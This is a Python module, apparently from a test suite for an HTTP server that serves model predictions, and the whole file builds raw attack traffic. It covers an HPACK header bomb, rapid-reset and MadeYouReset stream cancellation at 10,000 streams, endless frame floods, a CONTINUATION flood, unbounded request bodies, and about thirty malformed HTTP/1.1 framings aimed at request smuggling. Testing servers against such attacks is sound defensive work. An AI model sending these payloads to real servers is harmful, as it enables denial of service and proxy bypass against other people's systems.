"""The bytes of the attacks, for whatever server they are sent to."""

import struct

from h2raw import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, field, frame, request_block)

STREAMS = range(1, 20001, 2)  # of 10,000 requests
RESET = b"\0\0\0\x08"  # CANCEL
PREDICTION = b'{"model":"diabetes","features":[59,2,32.1,101,157,93.2,38,4,4.8598,87]}'


def settings(identifier, value):
    return struct.pack(">HI", identifier, value)


def header_bomb(size, chunk=16384, extra=()):
    """HEADERS and CONTINUATION with `size` bytes of fields: a large one put into the table, then its index over and over."""
    first = request_block(extra=extra) + field("x-bomb", "b" * 4000, indexed=True)
    block = first + b"\xbe" * (size - len(first))
    pieces = [block[i : i + chunk] for i in range(0, len(block), chunk)]
    out = []
    for i, piece in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        out.append(frame(CONTINUATION if i else HEADERS, flags | (0 if i else END_STREAM), 1, piece))
    return b"".join(out)


def cancelled(make_request):
    """10,000 requests, each cancelled at once. make_request(stream) -> bytes"""
    return b"".join(make_request(s) + frame(RST_STREAM, 0, s, RESET) for s in STREAMS)


# MadeYouReset: what a client may send after a request so that the server cancels it. form -> f(stream) -> bytes
MADE_RESETS = {
    "window update of zero": lambda s: frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"),
    "window overflow": lambda s: frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"),
    "data on a half-closed stream": lambda s: frame(DATA, 0, s, b"x"),
    "headers on a half-closed stream": lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, request_block()),
    "priority on itself": lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)),
    "reset of a wrong length": lambda s: frame(RST_STREAM, 0, s, b"\0\0"),
}


def made_resets(form, make_request):
    return b"".join(make_request(s) + MADE_RESETS[form](s) for s in STREAMS)


# Frames to send without end. Stream 3 has been answered, stream 5 waits for its body.
FLOODS = {
    "PING": frame(PING, 0, 0, b"12345678"),
    "PING ACK": frame(PING, ACK, 0, b"12345678"),
    "SETTINGS": frame(SETTINGS, 0, 0, settings(4, 65535)),
    "PRIORITY": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 7)),
    "empty DATA": frame(DATA, 0, 5),
    "padded empty DATA": frame(DATA, 8, 5, b"\x04" + b"\0" * 4),
    "WINDOW_UPDATE of 1 byte": frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"),
    "unknown frame": frame(0x42, 0, 0, b"grease"),
    "DATA on a closed stream": frame(DATA, 0, 3, b"x"),
}


def continuations(count):
    return frame(HEADERS, END_STREAM, 1, request_block()) + frame(CONTINUATION, 0, 1) * count


def endless_bodies(make_head, size=16384):
    """Bodies without end (64 MB) on 100 streams, a frame each in turn. make_head(stream) -> bytes"""
    heads = b"".join(make_head(s) for s in range(1, 201, 2))
    return heads + b"".join(frame(DATA, 0, s, b"x" * size) for s in range(1, 201, 2)) * (640000 // size)


def bad_framing(target, fields=b""):
    """What a proxy in front could read otherwise than the server. `fields`: more header lines of each POST to `target`."""
    post = b"POST " + target + b" HTTP/1.1\r\nHost: localhost\r\n" + fields
    get = b"GET / HTTP/1.1\r\n"
    return {
        "two lengths that differ": post + b"Content-Length: 5\r\nContent-Length: 0\r\n\r\n",
        "two lengths that agree": post + b"Content-Length: 0\r\nContent-Length: 0\r\n\r\n",
        "a list of lengths": post + b"Content-Length: 0, 0\r\n\r\n",
        "a signed length": post + b"Content-Length: +0\r\n\r\n",
        "a length that is no number": post + b"Content-Length: 0x0\r\n\r\n",
        "length and chunked": post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "chunked and length": post + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
        "chunked twice": post + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "identity": post + b"Transfer-Encoding: identity\r\n\r\n",
        "gzip, chunked": post + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
        "chunked in HTTP/1.0": b"POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "a folded line": post + b"X-Folded: a\r\n b\r\n\r\n",
        "a folded length": post + b"Content-Length:\r\n 0\r\n\r\n",
        "a bare LF": get + b"Host: localhost\r\nX: y\n\r\n",
        "only bare LFs": b"GET / HTTP/1.1\nHost: localhost\n\n",
        "a bare CR in a value": get + b"Host: localhost\r\nX: a\rContent-Length: 5\r\n\r\n",
        "no Host": get + b"\r\n",
        "two Hosts": get + b"Host: a\r\nHost: b\r\n\r\n",
        "a Host with a path": get + b"Host: a/b\r\n\r\n",
        "a space before the colon": post + b"Content-Length : 0\r\n\r\n",
        "a space in the target": b"GET /a b HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "HTTP/1.2": b"GET / HTTP/1.2\r\nHost: localhost\r\n\r\n",
        "a preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "a chunk size with a bare LF": post + b"Transfer-Encoding: chunked\r\n\r\n0\n\r\n",
        "a chunk extension": post + b"Transfer-Encoding: chunked\r\n\r\n0;a=b\r\n\r\n",
        "a trailer": post + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n",
        "a chunk longer than its size": post + b"Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n",
        "a chunk size of 17 digits": post + b"Transfer-Encoding: chunked\r\n\r\n00000000000000001\r\na\r\n0\r\n\r\n",
    }
